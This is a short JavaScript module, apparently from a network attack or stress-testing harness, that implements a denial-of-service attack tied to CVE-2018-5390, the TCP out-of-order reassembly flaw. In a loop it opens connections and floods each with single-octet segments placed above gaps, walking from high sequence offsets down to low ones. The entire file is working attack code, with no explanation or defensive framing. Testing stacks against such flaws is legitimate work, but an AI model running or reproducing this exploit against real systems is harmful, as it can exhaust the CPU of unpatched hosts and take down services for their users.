import { ACK } from '../peers.js'

export const summary = 'single octets above gaps, from the last to the first (CVE-2018-5390)'
export const short = true

export const attack = async (peers, { goesOn }) => {
  while (await goesOn()) {
    const c = await peers.connect(9)
    if (c === null) continue
    for (let at = 60_000; at > 0 && !c.reset; at -= 2) {
      c.send(ACK, { seq: (c.seq + at) | 0, text: Uint8Array.of(at) })
      if (at % 512 === 0 && !(await goesOn(1))) return
    }
  }
}
